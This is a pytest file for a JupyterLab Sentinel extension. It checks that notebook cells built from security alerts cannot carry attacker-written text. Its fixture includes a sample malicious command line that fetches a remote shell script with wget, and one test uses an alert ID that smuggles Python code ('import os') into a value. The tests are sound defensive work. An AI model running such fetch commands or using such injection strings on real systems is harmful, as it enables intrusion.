"""Cells that go on from an alert carry nothing that an attacker wrote."""

from __future__ import annotations

import json
import re
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from jupyterlab_sentinel.kql.binding import bind
from jupyterlab_sentinel.kql.lexer import tokenize
from jupyterlab_sentinel.models.timerange import parse_time_range
from jupyterlab_sentinel.models.workspace import ColumnInfo, TableInfo
from jupyterlab_sentinel.services.alert_rows import parse_alert
from jupyterlab_sentinel.services.listings import row_id
from jupyterlab_sentinel.services.pivots import _QUESTIONS, pivots

HOSTILE = json.loads((Path(__file__).parents[2] / "data" / "hostile-alerts.json").read_text("utf-8"))["records"]
GUID = "5f02c96d-ac3d-5b65-9acb-48a3e8eede6b"
EVERY_TABLE = [
    TableInfo(
        question.table, tuple(ColumnInfo(name, "string") for name in ("TimeGenerated", *question.columns.split()))
    )
    for question in _QUESTIONS
]


def alert(**more: Any) -> Any:
    return parse_alert(
        {
            "SystemAlertId": GUID,
            "StartTime": "2019-02-18T15:29:22Z",
            "EndTime": "2019-02-18T15:29:22Z",
            "Entities": json.dumps(
                [
                    {"Type": "host", "HostName": "MSTICALERTSLXVM2"},
                    {"Type": "account", "Name": "dbadmin"},
                    {"Type": "process", "CommandLine": "wget http://23.97.60.214/x.sh"},
                ]
            ),
        }
        | more
    )


def test_the_alert_itself_comes_first_in_one_cell() -> None:
    first = pivots(alert())[0]
    assert first.label == "This alert"
    query = f'SecurityAlert\n| where SystemAlertId == "{GUID}"\n| summarize arg_max(TimeGenerated, *) by SystemAlertId'
    assert first.cells == [f"%%sentinel\n{query}"]


def test_plain_indicators_stand_in_the_cell_and_others_are_reached_by_name() -> None:
    url, address = [pivot for pivot in pivots(alert()) if pivot.label.startswith("Search")]
    assert url.label == "Search all tables for hxxp[:]//23[.]97[.]60[.]214/x.sh"
    assert url.cells[0] == f"%sentinel alert {GUID} -o alert"
    assert url.cells[1].startswith("%%sentinel\nsearch {{alert.indicators[0].value}}\n| summarize")
    assert address.label == "Search all tables for 23[.]97[.]60[.]214"
    assert address.cells[0].startswith('%%sentinel\nsearch "23.97.60.214"\n| summarize')
    assert "by Type" in address.cells[0]


def test_single_tables_are_asked_only_where_they_exist_with_their_columns() -> None:
    assert not any("Syslog" in cell for pivot in pivots(alert()) for cell in pivot.cells)
    labels = [pivot.label for pivot in pivots(alert(), EVERY_TABLE)]
    assert "Sign-ins of dbadmin (Syslog)" in labels
    assert "Processes on MSTICALERTSLXVM2 (AuditLog_CL)" in labels
    assert "Network flows with 23[.]97[.]60[.]214 (AzureNetworkAnalytics_CL)" in labels
    without = [TableInfo("Syslog", (ColumnInfo("TimeGenerated", "datetime"), ColumnInfo("Computer", "string")))]
    assert not any("Syslog" in pivot.label for pivot in pivots(alert(), without))


def test_the_time_around_the_alert_is_given_as_the_magic_reads_it() -> None:
    cell = next(pivot.cells[-1] for pivot in pivots(alert(), EVERY_TABLE) if "(Syslog)" in pivot.label)
    start, end = re.match(r"%%sentinel --from (\S+) --to (\S+)\n", cell).groups()
    read = parse_time_range(f"{start} {end}")
    assert (read.start, read.end) == (
        datetime(2019, 2, 18, 13, 29, 22, tzinfo=UTC),
        datetime(2019, 2, 18, 16, 29, 22, tzinfo=UTC),
    )


def test_a_time_at_the_edge_of_the_calendar_leaves_the_sessions_range() -> None:
    old = alert(StartTime="0001-01-01T00:00:00Z", EndTime="")
    cell = next(pivot.cells[-1] for pivot in pivots(old, EVERY_TABLE) if "(Syslog)" in pivot.label)
    assert cell.startswith("%%sentinel\n")


def test_an_id_that_is_not_plain_is_never_written() -> None:
    hostile = alert(SystemAlertId='x"; import os #')
    first = pivots(hostile)[0]
    assert first.cells[0] == f"%sentinel alert {row_id(hostile)} -o alert"
    assert "import os" not in "".join(first.cells)
    assert "{{alert.system_alert_id}}" in first.cells[1]


SAFE_CELL = re.compile(
    r"%sentinel alert [A-Za-z0-9._:-]+ -o alert|%sentinel sweep alert -o sightings"
    r"|indicators = \[found\.value for found in alert\.indicators\]\n%enrich indicators -o known"
)
SAFE_TEMPLATE = re.compile(r'"[A-Za-z0-9._:-]+"|\{\{alert\.[a-z_]+(?:\[\d+\](?:\.[a-z]+(?:\["\w+"\])?)?)?\}\}')


@pytest.mark.parametrize("record", HOSTILE, ids=lambda record: record["id"])
def test_no_hostile_text_becomes_text_of_a_cell(record: Any) -> None:
    hostile = parse_alert(record["alert"])
    for pivot in pivots(hostile, EVERY_TABLE):
        assert "\n" not in pivot.label
        for cell in pivot.cells:
            if not cell.startswith("%%sentinel"):
                assert SAFE_CELL.fullmatch(cell)
                continue
            rest = SAFE_TEMPLATE.sub("", cell)
            for value in dangerous(record["alert"]):
                assert value not in rest
            query = cell.partition("\n")[2]
            bound = bind(query, {"alert": hostile}).text
            assert shape(query) == shape(bound)


def dangerous(row: Any) -> Any:
    return [value for value in row.values() if isinstance(value, str) and len(value) > 8 and not value.isalnum()]


def shape(query: Any) -> Any:
    """The query's tokens with every literal and placeholder as one sign."""
    plain = re.sub(r"\{\{[^}]*\}\}", '"x"', query) if "{{alert" in query else query
    return ["literal" if token.kind == "string" else token.text for token in tokenize(plain)]
